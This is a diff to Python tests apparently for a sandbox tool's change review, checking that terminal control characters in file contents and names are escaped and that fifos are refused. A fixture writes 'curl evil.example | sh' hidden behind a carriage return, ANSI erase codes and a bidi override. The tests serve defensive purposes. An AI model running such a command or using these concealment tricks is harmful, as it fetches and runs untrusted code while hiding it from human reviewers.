@@ -344,7 +344,7 @@ def test_the_review_escapes_what_would_fool_a_terminal(ws):
     result = overlay(root, "printf 'echo safe\\rcurl evil.example | sh"
                            "\\033[2K\\342\\200\\256\\n' > run.sh; "
                            "echo x > \"$(printf 'na\\033[8mme\\rhidden')\"; "
-                           "chmod 700 sub")
+                           "chmod 700 sub; chmod 750 .")
     assert result.returncode == 0, result.stderr
     pending = result.changes
     shown = review(pending.id)
@@ -354,6 +354,7 @@ def test_the_review_escapes_what_would_fool_a_terminal(ws):
     assert "+echo safe\\x0dcurl evil.example | sh\\x1b[2K\\u202e\n" in text
     assert "na\\x1b[8mme\\x0dhidden" in text
     assert f"M {root}/sub/ (mode 755 -> 700)" in text
+    assert f"M {root}/ (mode 755 -> 750)" in text  # (the root's own mode)
     assert raw_controls(pending.diff().encode()) == set()
     assert raw_controls(json.dumps(json.loads(review(pending.id, "--json").stdout)).encode()) \
         == set()
@@ -361,13 +362,15 @@ def test_the_review_escapes_what_would_fool_a_terminal(ws):
     assert (root / "run.sh").read_bytes() == evil.encode()
     assert (root / "na\x1b[8mme\rhidden").read_text() == "x\n"
     assert stat.S_IMODE(os.stat(root / "sub").st_mode) == 0o700
+    assert stat.S_IMODE(os.stat(root).st_mode) == 0o750
 
 
 def test_a_fifo_in_the_overlay_neither_hangs_the_review_nor_lands(ws):
     """G6: a fifo the run left is listed as one (never opened: the review and diff() end),
     and apply refuses it, typed, naming it."""
     root, _ = ws
-    result = overlay(root, "mkfifo pipe && echo ok > ok.txt")
+    result = overlay(root, "mkfifo pipe && mkfifo \"$(printf 'p\\033[2Ki\\rpe')\" && "
+                           "echo ok > ok.txt")
     assert result.returncode == 0, result.stderr
     pending = result.changes
     shown = review(pending.id)  # (timeout=120: a hang fails here)
@@ -380,6 +383,11 @@ def test_a_fifo_in_the_overlay_neither_hangs_the_review_nor_lands(ws):
     with pytest.raises(ChangesError) as refused:
         pending.apply()
     assert refused.value.code == "changes_refused" and f"{root}/pipe" in str(refused.value)
+    cli = subprocess.run([sys.executable, "-m", "stockade", "apply", pending.id],
+                         capture_output=True, timeout=120)
+    assert cli.returncode == 1 and b"changes_refused" in cli.stderr, cli.stderr
+    assert b"p\\x1b[2Ki\\x0dpe: a device, fifo or socket" in cli.stderr
+    assert raw_controls(cli.stderr) == set() and b"Traceback" not in cli.stderr
     assert os.listdir(root) == []
     pending.discard()
 
